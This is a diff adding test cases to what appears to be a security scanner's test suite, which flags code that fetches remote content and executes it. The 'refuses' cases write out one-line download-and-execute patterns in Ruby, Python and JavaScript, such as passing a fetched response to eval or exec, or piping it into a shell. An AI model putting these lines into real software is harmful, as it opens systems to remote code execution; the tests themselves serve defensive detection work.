@@ -266,6 +266,29 @@ describe('pass 14 bypasses, html: script elements given another host or fetched 
   ])('accepts, in %s: %s', accepted);
 });
 
+describe('pass 14 bypasses, bound: a fetch bound by a block, with, for or a callback rather than `=`', () => {
+  it.each([
+    ['lib/a.rb', 'URI.open("https://x.example/p") { |f| eval(f.read) }'],
+    ['lib/a.rb', 'URI.open(u).then { |f| eval(f.read) }'],
+    ['lib/a.rb', 'URI.open(u) do |f| eval(f.read) end'],
+    ['src/a.py', 'with urlopen(u) as r: exec(r.read())'],
+    ['src/a.py', 'for line in urlopen(u): exec(line)'],
+    ['src/a.js', 'new WebSocket(u).onmessage = (e) => eval(e.data);'],
+    ['src/a.js', 'new EventSource(u).onmessage = (e) => eval(e.data);'],
+    ['src/a.js', 'new EventSource(u).addEventListener("message", function (e) { eval(e.data); });'],
+    ['src/a.js', "const x = new XMLHttpRequest(); x.open('GET', u, false); x.send(); eval(x.responseText);"],
+    ['src/a.js', "https.get(u, (r) => r.pipe(spawn('sh').stdin));"],
+  ])('refuses, in %s: %s', refused);
+  it.each([
+    ['lib/a.rb', 'URI.open(u) { |f| JSON.parse(f.read) }\neval(File.read("local.rb"))'],
+    ['src/a.py', 'with urlopen(u) as r: data = json.load(r)'],
+    ['src/a.py', 'for line in urlopen(u): print(line)'],
+    ['src/a.js', 'new WebSocket(u).onmessage = (e) => render(JSON.parse(e.data));'],
+    ['src/a.js', "https.get(u, (r) => r.pipe(fs.createWriteStream('out.json')));"],
+    ['src/a.js', "fetch(u).then((r) => r.json()).then((data) => render(data));\nsetTimeout(() => exec('make'), 10);"],
+  ])('accepts, in %s: %s', accepted);
+});
+
 /** Sizes of the cost texts, as in pass-14-code-sinks.test.ts. */
 const sizes = [10, 20, 40, 80].map((kb) => kb * 1024);
 
@@ -281,6 +304,7 @@ describe('pass 14 findings: the cost of the readings added', () => {
     ['interpreters with flags', "spawn('sh', '-c', 'a', ['-e', "],
     ['shells given input', "run(['bash'], x, input="],
     ['script text given', "createElement('script') s.text = <script dangerouslySetInnerHTML={ new Worker(x, "],
+    ['binders', 'fetch(u) as r { |f| (e) => x => function (a) for a in '],
     ['fetch forms', "URI.parse(u).read $client->get( (client/get x .toURL().text "],
   ] as const) {
     it(`reads ${name} in linear time`, { timeout: 120_000 }, () => {
